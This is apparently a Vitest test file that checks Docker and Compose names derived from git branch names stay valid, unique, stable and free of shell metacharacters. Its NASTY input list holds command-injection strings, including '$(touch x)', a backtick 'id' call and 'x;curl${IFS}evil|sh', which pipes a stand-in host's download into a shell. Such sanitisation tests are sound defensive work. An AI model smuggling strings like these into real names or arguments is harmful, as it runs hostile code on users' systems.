import {describe, expect, it} from 'vitest'
import {branchId, composeProjectName, volumeName} from '../../src/core/naming.js'

// Docker's rule for container and volume names; Compose's for project names.
const DOCKER_NAME = /^[a-zA-Z0-9][a-zA-Z0-9_.-]+$/
const COMPOSE_PROJECT = /^[a-z0-9][a-z0-9_-]*$/

const NASTY = [
  'main',
  'feat/a-b',
  'feat-a/b',
  'fix/a;b',
  '$(touch x)',
  'x;touch${IFS}pwned',
  'x;curl${IFS}evil|sh',
  'a`id`b',
  "it's",
  'a"b',
  'a|b&c',
  'a>b<c',
  '#hash',
  'naïve-ünïcode',
  'emoji-🚀',
  '日本語',
  '-',
  '___',
  'x'.repeat(200),
  `feature/${'long-'.repeat(40)}end`,
]

describe('branch identity in names', () => {
  it('every derived name is a valid Docker and Compose name', () => {
    for (const b of NASTY) {
      const stack = composeProjectName('shop', 'dev', b)
      expect(stack, b).toMatch(COMPOSE_PROJECT)
      for (const kind of ['data', 'shared', 'cache'] as const) {
        const v = volumeName({project: 'shop', env: 'dev', branch: b, service: 'db', key: 'data', kind, contentHash: 'abcdef0123456789'})
        expect(v, `${kind} ${b}`).toMatch(DOCKER_NAME)
        expect(v.length).toBeLessThan(128)
      }
    }
  })

  it('distinct branches never share a name, even when their slugs are equal', () => {
    const pairs: Array<[string, string]> = [
      ['feat/a-b', 'feat-a/b'],
      ['fix/a;b', 'fix/a|b'],
      ['Main', 'main'],
      ['x'.repeat(200), `${'x'.repeat(199)}y`],
      ['日本語', '中文'],
    ]
    for (const [a, b] of pairs) expect(branchId(a), `${a} vs ${b}`).not.toBe(branchId(b))
    const all = NASTY.map((b) => composeProjectName('shop', 'dev', b))
    expect(new Set(all).size).toBe(NASTY.length)
  })

  it('is stable: the same branch always gets the same names', () => {
    expect(branchId('feat/login')).toBe(branchId('feat/login'))
    expect(branchId('feat/login')).toMatch(/^feat-login-[0-9a-f]{8}$/)
    expect(volumeName({project: 'shop', env: 'dev', branch: 'x;touch${IFS}pwned', service: 'db', key: 'data', kind: 'data'})).toBe(
      'shop-dev-x-touch-ifs-pwned-453873e1_db-data',
    )
  })

  it('keeps no shell metacharacter in any name', () => {
    for (const b of NASTY) expect(composeProjectName('shop', 'dev', b)).not.toMatch(/[;$`'"|&<>()\s]/)
  })
})
